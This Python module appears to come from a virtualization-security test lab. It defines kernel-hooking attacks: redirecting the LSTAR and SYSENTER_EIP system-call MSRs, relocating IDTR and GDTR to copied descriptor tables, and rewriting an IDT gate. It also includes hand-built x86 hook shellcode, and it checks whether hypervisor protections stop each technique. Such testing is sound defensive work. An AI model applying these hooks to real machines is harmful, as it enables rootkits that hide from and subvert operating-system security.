"""Where the processor goes: LSTAR, SYSENTER_EIP, IDTR, GDTR, and the gates themselves."""

from __future__ import annotations

import struct

from vtlab.client.driver import Driver, parse
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.x86.registers import Msr
from vtlab_attacks.evidence import Attack, Attempts, Evidence, observe
from vtlab_attacks.state import DRIVER_WINDOW, PAGE, direct, memory, msr, show_bytes

HOOK_COUNTER = 32
STOPPED = "selfguard: stopped"


def syscall_hook(target: int) -> bytes:
    """Counts at its own offset 32, then goes where SYSCALL went before: inc [rip+25]; jmp [rip+0]; .quad target."""
    code = b"\x48\xff\x05" + struct.pack("<i", HOOK_COUNTER - 7) + b"\xff\x25\0\0\0\0" + struct.pack("<Q", target)
    return code.ljust(HOOK_COUNTER + 8, b"\0")


def move_lstar(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    driver.write_bytes(DRIVER_WINDOW, syscall_hook(symbols["syscall_entry"]))
    log = machine.serial_reader(0, from_now=True)

    def steps(attempts: Attempts) -> None:
        # Where the hook may not be executed, the SYSCALL that answers is the kernel's end; LSTAR is what it is.
        command = f"call {symbols['wrmsr']:#x} {Msr.LSTAR:#x} {DRIVER_WINDOW:#x}"
        answer = driver.command_unless(command, log, STOPPED)
        if answer is not None:
            attempts.step(parse, answer)

    return observe(
        "LSTAR", lambda: msr(machine, Msr.LSTAR), steps, symbols, lambda _, after: after == DRIVER_WINDOW, hex
    )


def move_sysenter(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["wrmsr"], Msr.SYSENTER_EIP, DRIVER_WINDOW)

    return observe(
        "SYSENTER_EIP",
        lambda: msr(machine, Msr.SYSENTER_EIP),
        steps,
        symbols,
        lambda _, after: after == DRIVER_WINDOW,
        hex,
    )


def _stage_table(driver: Driver, symbols: Symbols, table: str, size: int) -> tuple[int, int]:
    """A copy of a descriptor table in the mailbox, and the operand that loads it: their addresses."""
    copy = symbols["driver_mailbox"]
    operand = copy + PAGE
    driver.copy(copy, symbols[table], size)
    driver.write_bytes(operand, struct.pack("<HQ", size - 1, copy))
    return copy, operand


def move_idtr(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    copy, operand = _stage_table(driver, symbols, "interrupt_descriptor_table", 256 * 16)

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["gadget_lidt"], operand)

    return observe(
        "IDTR base", lambda: machine.registers().idtr.base, steps, symbols, lambda _, after: after == copy, hex
    )


def move_gdtr(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    copy, operand = _stage_table(driver, symbols, "global_descriptor_table", 8 * 8)

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["gadget_lgdt"], operand)

    return observe(
        "GDTR base", lambda: machine.registers().gdtr.base, steps, symbols, lambda _, after: after == copy, hex
    )


def write_gate(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Points the gate of vector 1 elsewhere, through the direct map."""
    gate = symbols.physical("interrupt_descriptor_table") + 16

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.write, direct(gate), DRIVER_WINDOW & 0xFFFF, 2)

    return observe("IDT gate of #DB", lambda: memory(machine, gate, 8), steps, symbols, show=show_bytes)


ATTACKS = [
    Attack(
        "msr-lstar",
        "Points LSTAR at a hook, so that every SYSCALL comes by",
        'PatchGuard, "system call MSRs" (Skape, Skywing 2005)',
        move_lstar,
    ),
    Attack("msr-sysenter", "Points SYSENTER_EIP at attacker memory", "LVBS LOCK_REGS (SYSENTER_EIP)", move_sysenter),
    Attack(
        "idtr-moved",
        "Loads IDTR with a copy of the IDT in attacker memory",
        "kad, Phrack 59-4 (2002), handling the IDT",
        move_idtr,
    ),
    Attack("gdtr-moved", "Loads GDTR with a copy of the GDT in attacker memory", "LVBS LOCK_REGS (GDTR)", move_gdtr),
    Attack("idt-gate", "Rewrites a gate of the IDT in place", "kad, Phrack 59-4 (2002), handling the IDT", write_gate),
]
